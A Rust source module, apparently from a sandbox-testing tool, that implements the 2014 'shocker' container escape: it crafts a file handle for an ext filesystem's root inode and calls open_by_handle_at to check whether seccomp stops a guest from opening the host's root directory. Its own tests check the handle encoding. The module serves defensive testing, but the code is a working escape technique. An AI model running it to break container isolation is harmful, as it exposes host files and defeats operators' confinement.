//! `shocker`: the 2014 Docker escape through open_by_handle_at(2).
//!
//! A file handle names an inode by number, not by path, so opening one ignores
//! the container's root entirely: with a mount fd of any bind mount, a crafted
//! handle for the filesystem's root inode opens the host's root directory.
//! The kernel allows it with CAP_DAC_READ_SEARCH — and since Linux 6.12 also with
//! CAP_SYS_ADMIN over the filesystem (for directories), which a guest without a
//! user namespace has — so what stops it is seccomp (nspawn leaves
//! open_by_handle_at out of its allow-list).
//!
//! Harmless when it succeeds: directories are opened read-only, their names are
//! listed, and the fds are closed.

use std::os::fd::{AsRawFd, OwnedFd};

use super::sys;
use super::vfs::list_dir;
use super::{gate, Findings, Gate, Outcome, STOPS};

const MAX_HANDLE_SZ: usize = 128;
/// FILEID_INO32_GEN (include/linux/exportfs.h): a 32-bit inode number and a
/// 32-bit generation, the format ext2/3/4 (and others) hand out.
const FILEID_INO32_GEN: i32 = 1;
/// The root directory's inode on ext2/3/4 (EXT4_ROOT_INO); its generation is 0.
const EXT_ROOT_INO: u32 = 2;

/// `struct file_handle` with room for the largest handle.
#[repr(C)]
struct FileHandle {
    handle_bytes: u32,
    handle_type: i32,
    f_handle: [u8; MAX_HANDLE_SZ],
}

impl FileHandle {
    fn new(handle_type: i32, bytes: &[u8]) -> FileHandle {
        let mut h = FileHandle {
            handle_bytes: bytes.len() as u32,
            handle_type,
            f_handle: [0; MAX_HANDLE_SZ],
        };
        h.f_handle[..bytes.len()].copy_from_slice(bytes);
        h
    }

    fn bytes(&self) -> &[u8] {
        &self.f_handle[..(self.handle_bytes as usize).min(MAX_HANDLE_SZ)]
    }
}

/// The handle of the filesystem root, if we know the format of `handle_type`:
/// for FILEID_INO32_GEN with 8 bytes, inode 2 generation 0 (ext2/3/4).
pub fn craft_root_handle(handle_type: i32, len: usize) -> Option<(i32, Vec<u8>)> {
    if handle_type == FILEID_INO32_GEN && len == 8 {
        let mut b = EXT_ROOT_INO.to_le_bytes().to_vec();
        b.extend_from_slice(&0u32.to_le_bytes());
        Some((FILEID_INO32_GEN, b))
    } else {
        None
    }
}

/// "type 1, inode N, generation G" for an INO32_GEN handle; hex otherwise.
pub fn describe_handle(handle_type: i32, bytes: &[u8]) -> String {
    if handle_type == FILEID_INO32_GEN && bytes.len() == 8 {
        let ino = u32::from_le_bytes(bytes[0..4].try_into().unwrap());
        let gen = u32::from_le_bytes(bytes[4..8].try_into().unwrap());
        format!("type {handle_type} (inode {ino}, generation {gen})")
    } else {
        let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
        format!("type {handle_type:#x}, {} bytes {hex}", bytes.len())
    }
}

fn name_to_handle(path: &str) -> sys::SysResult<FileHandle> {
    let mut h = FileHandle::new(0, &[]);
    h.handle_bytes = MAX_HANDLE_SZ as u32;
    let mut mount_id: libc::c_int = 0;
    let p = sys::c(path);
    // SAFETY: valid C string; h has room for MAX_HANDLE_SZ bytes as declared.
    sys::ret(unsafe {
        libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            p.as_ptr(),
            &mut h as *mut FileHandle,
            &mut mount_id as *mut libc::c_int,
            0,
        )
    })?;
    Ok(h)
}

fn open_by_handle(mount_fd: &OwnedFd, h: &FileHandle) -> sys::SysResult<OwnedFd> {
    // SAFETY: valid mount fd and a handle whose size field matches its buffer.
    sys::ret(unsafe {
        libc::syscall(
            libc::SYS_open_by_handle_at,
            mount_fd.as_raw_fd(),
            h as *const FileHandle,
            libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC,
        )
    })
    .map(sys::own)
}

pub fn shocker() -> Outcome {
    let root = match sys::stat_id("/") {
        Ok(r) => r,
        Err(e) => return Outcome::Error(format!("stat /: {e:?}")),
    };
    let mount_fd = match sys::open("/", libc::O_RDONLY | libc::O_DIRECTORY) {
        Ok(fd) => fd,
        Err(e) => return Outcome::Error(format!("open /: {e:?}")),
    };
    let mut f = Findings::default();
    // 1. The handle of "/" itself (name_to_handle_at is harmless and allowed
    //    even by nspawn), then open_by_handle_at on it: the plain question
    //    whether the call works at all.
    let own = name_to_handle("/");
    match &own {
        Err(e) => f.blocked(format!("name_to_handle_at(/): {e:?}")),
        Ok(h) => {
            let res = open_by_handle(&mount_fd, h);
            let what = format!(
                "open_by_handle_at(handle of /, {})",
                describe_handle(h.handle_type, h.bytes())
            );
            match gate(&res, STOPS) {
                Gate::Stopped(e) => f.blocked(format!("{what}: {e:?}")),
                Gate::Passed => f.escaped(format!("{what}: reopened / by handle")),
                Gate::Reached(e) => {
                    f.escaped(format!("{what}: passed the permission check ({e:?})"))
                }
            }
        }
    }
    // 2. The shocker proper: a crafted handle for the filesystem root.  Tried
    //    also when name_to_handle_at was refused — an attacker can guess.
    let crafted = match &own {
        Ok(h) => craft_root_handle(h.handle_type, h.handle_bytes as usize),
        Err(_) => craft_root_handle(FILEID_INO32_GEN, 8),
    };
    match crafted {
        None => f.blocked(format!(
            "crafting skipped: / is not on ext2/3/4 ({})",
            own.as_ref()
                .map(|h| describe_handle(h.handle_type, h.bytes()))
                .unwrap_or_default()
        )),
        Some((t, bytes)) => {
            let h = FileHandle::new(t, &bytes);
            match open_by_handle(&mount_fd, &h) {
                Ok(fd) => match sys::fstat_id(&fd) {
                    Ok(id) if id.same_file(&root) => f.escaped(
                        "a crafted handle for inode 2 opened our own root (the container \
                         root is its filesystem's root; no host directory above it)",
                    ),
                    Ok(_) => f.escaped(format!(
                        "a crafted handle (inode 2, generation 0) opened the host filesystem's \
                         root outside the container: {}",
                        list_dir(format!("/proc/self/fd/{}", fd.as_raw_fd()))
                    )),
                    Err(e) => f.escaped(format!("a crafted handle opened something (fstat {e:?})")),
                },
                Err(e) if STOPS.contains(&e) => {
                    f.blocked(format!("open_by_handle_at(crafted inode 2): {e:?}"))
                }
                // ESTALE: decoded, but no such inode/generation here — the
                // permission check was passed all the same.
                Err(e) => f.escaped(format!(
                    "open_by_handle_at(crafted inode 2): passed the permission check ({:?})",
                    e
                )),
            }
        }
    }
    f.outcome()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ext_root_handle_is_inode_2_generation_0() {
        let (t, b) = craft_root_handle(1, 8).unwrap();
        assert_eq!(t, 1);
        assert_eq!(b, vec![2, 0, 0, 0, 0, 0, 0, 0]);
        assert_eq!(describe_handle(t, &b), "type 1 (inode 2, generation 0)");
        // Other formats (btrfs 0x4d, tmpfs' 12-byte type 1, overlay) are not
        // guessed.
        assert_eq!(craft_root_handle(0x4d, 20), None);
        assert_eq!(craft_root_handle(1, 12), None);
        assert_eq!(describe_handle(0x4d, &[1, 0xab]), "type 0x4d, 2 bytes 01ab");
    }

    #[test]
    fn real_handles_decode() {
        // Only meaningful where / is on ext2/3/4, as on the test machines.
        if let Ok(h) = name_to_handle("/") {
            if h.handle_type == FILEID_INO32_GEN && h.handle_bytes == 8 {
                let ino = sys::stat_id("/").unwrap().ino;
                assert!(describe_handle(h.handle_type, h.bytes())
                    .starts_with(&format!("type 1 (inode {ino},")));
            }
        }
    }
}
